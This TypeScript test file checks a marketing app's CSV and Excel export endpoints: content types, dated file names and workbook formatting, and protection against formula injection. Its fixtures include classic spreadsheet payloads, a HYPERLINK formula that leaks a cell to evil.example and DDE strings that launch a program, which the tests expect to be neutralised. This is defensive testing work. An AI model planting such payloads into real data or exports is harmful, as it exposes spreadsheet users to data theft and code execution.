/**
 * The HTTP exports as a marketer receives them: a CSV that never runs a formula someone typed
 * into a cell, and workbooks formatted to hand on (tests/exports/xlsx-writer.test.ts has the details).
 */
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startTestServer, type TestServer } from '../support/test-server.js';

const XLSX_TYPE = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';
// Classic payloads: a link that leaks a cell, and DDE that starts a program on an old Excel.
const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Xem brief")';
const DDE = "+cmd|' /C calc'!A0";
const AT_FORMULA = '@SUM(1+1)*cmd|\' /C calc\'!A0';
const MINUS_FORMULA = '-2+3+cmd|\' /C calc\'!A0';

const csvRows = (text: string) => parse(text, { bom: true, relax_column_count: true }) as string[][];

describe('exports over HTTP', () => {
  let server: TestServer;
  const get = async (path: string) => fetch(`${server.url}/api/v1${path}`, { headers: await server.authAs('huong.le') });
  const workbookOf = async (response: Response) => {
    const bytes = await response.arrayBuffer();
    expect(Buffer.from(bytes, 0, 2).toString()).toBe('PK');
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(bytes);
    return workbook;
  };
  const headerOf = (sheet: ExcelJS.Worksheet) => (sheet.getRow(1).values as unknown[]).slice(1);

  beforeAll(async () => {
    server = await startTestServer();
    const prisma = server.database.prisma;
    await prisma.campaign.updateMany({ where: { code: 'CC-TET-2026' }, data: { description: HYPERLINK } });
    const campaign = await prisma.campaign.findFirstOrThrow({ where: { code: 'CC-TET-2026' }, select: { id: true } });
    await prisma.campaignProduct.updateMany({ where: { campaignId: campaign.id }, data: { note: DDE } });
    await prisma.campaignCreator.updateMany({ where: { campaignId: campaign.id }, data: { note: AT_FORMULA } });
    await prisma.creator.updateMany({ where: { creatorKey: 'KOC-LINHBEAUTY' }, data: { name: MINUS_FORMULA } });
  });
  afterAll(async () => server?.dispose());

  it('no CSV export hands a formula to a spreadsheet: the table export, the campaign list and the campaign detail prefix it with an apostrophe', async () => {
    const table = csvRows(await (await get('/exports/campaigns?format=csv')).text());
    const list = csvRows(await (await get('/campaigns/export?format=csv')).text());
    const creators = csvRows(await (await get('/exports/creators?format=csv')).text());
    const detail = (await (await get('/campaigns/CC-TET-2026/export?format=csv')).text()).replace(/^\uFEFF/, '');
    const descriptionOf = (rows: string[][]) => rows.find((row) => row[0] === 'CC-TET-2026')?.[rows[0]!.indexOf('description')];

    expect(descriptionOf(table)).toBe(`'${HYPERLINK}`);
    expect(descriptionOf(list)).toBe(`'${HYPERLINK}`);
    expect(creators.find((row) => row[0] === 'KOC-LINHBEAUTY')?.[creators[0]!.indexOf('name')]).toBe(`'${MINUS_FORMULA}`);
    const cells = csvRows(detail).flat();
    expect(cells).toContain(`'${HYPERLINK}`);
    expect(cells).toContain(`'${DDE}`);
    expect(cells).toContain(`'${AT_FORMULA}`);
    expect(cells).toContain(`'${MINUS_FORMULA}`);
    // Nothing a formula could start with is left at the start of any cell of any of them.
    for (const cell of [...table, ...list, ...creators].flat().concat(cells)) expect(cell, cell).not.toMatch(/^[=+@\t\r]|^-(?!\d+(\.\d+)?$)/);
  });

  it.each([
    ['/exports/campaigns', 'campaigns'],
    ['/campaigns/export', 'campaigns'],
    ['/campaigns/CC-TET-2026/export', 'campaign-CC-TET-2026'],
  ])('%s answers CSV and XLSX with the right Content-Type and a dated file name', async (path, baseName) => {
    const csv = await get(`${path}?format=csv`);
    expect(csv.status).toBe(200);
    expect(csv.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(csv.headers.get('content-disposition')).toMatch(new RegExp(`^attachment; filename="?${baseName}-\\d{4}-\\d{2}-\\d{2}\\.csv"?$`));
    const xlsx = await get(`${path}?format=xlsx`);
    expect(xlsx.status).toBe(200);
    expect(xlsx.headers.get('content-type')).toBe(XLSX_TYPE);
    expect(xlsx.headers.get('content-disposition')).toMatch(new RegExp(`^attachment; filename="?${baseName}-\\d{4}-\\d{2}-\\d{2}\\.xlsx"?$`));
    await workbookOf(xlsx);
  });

  it('the campaigns workbook shows the brand and owner names beside their keys, VND budgets, real dates, a frozen filtered header, A4 landscape', async () => {
    const workbook = await workbookOf(await get('/exports/campaigns?format=xlsx'));
    const sheet = workbook.getWorksheet('campaigns')!;
    const header = headerOf(sheet);
    const column = (name: string) => header.indexOf(name) + 1;
    const row = sheet.getRow(sheet.getColumn(1).values.indexOf('CC-TET-2026'));
    expect(row.getCell(column('brand_code')).value).toBe('COCOON');
    expect(row.getCell(column('brand_code') + 1).value).toBe('Cocoon Việt Nam');
    expect(sheet.getCell(1, column('brand_code') + 1).master.address).toBe(sheet.getCell(1, column('brand_code')).address);
    expect(row.getCell(column('owner_username') + 1).value).toEqual(expect.any(String));
    expect(typeof row.getCell(column('budget_planned')).value).toBe('number');
    expect(row.getCell(column('budget_planned')).numFmt).toBe('#,##0 ₫');
    expect(row.getCell(column('start_date')).value).toBeInstanceOf(Date);
    // The description is a text cell: a workbook never runs it.
    expect(row.getCell(column('description')).value).toBe(HYPERLINK);
    expect(sheet.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
    expect(sheet.autoFilter).toMatch(/^A1:[A-Z]+\d+$/);
    expect(sheet.pageSetup).toMatchObject({ paperSize: 9, orientation: 'landscape', fitToWidth: 1 });
    expect(sheet.getColumn(column('name')).width).toBeGreaterThanOrEqual('Chiến dịch Tết 2026 – Cocoon'.length);
  });

  it('the campaign detail workbook is formatted like the others: typed numbers, the brand name, widths, frozen header', async () => {
    const workbook = await workbookOf(await get('/campaigns/CC-TET-2026/export?format=xlsx'));
    expect(workbook.worksheets.map((sheet) => sheet.name)).toEqual(['campaign', 'products', 'creators']);
    const campaign = workbook.getWorksheet('campaign')!;
    const brand = headerOf(campaign).indexOf('brand_code') + 1;
    expect(campaign.getCell(2, brand + 1).value).toBe('Cocoon Việt Nam');
    expect(campaign.getCell(2, headerOf(campaign).indexOf('budget_planned') + 1).numFmt).toBe('#,##0 ₫');
    const products = workbook.getWorksheet('products')!;
    expect(products.getCell('A2').value).toBe(1);
    expect(products.getCell('F2').value).toBe(DDE);
    for (const sheet of workbook.worksheets) {
      expect(sheet.views[0], sheet.name).toMatchObject({ state: 'frozen', ySplit: 1 });
      expect(sheet.pageSetup, sheet.name).toMatchObject({ paperSize: 9, orientation: 'landscape' });
    }
  });
});
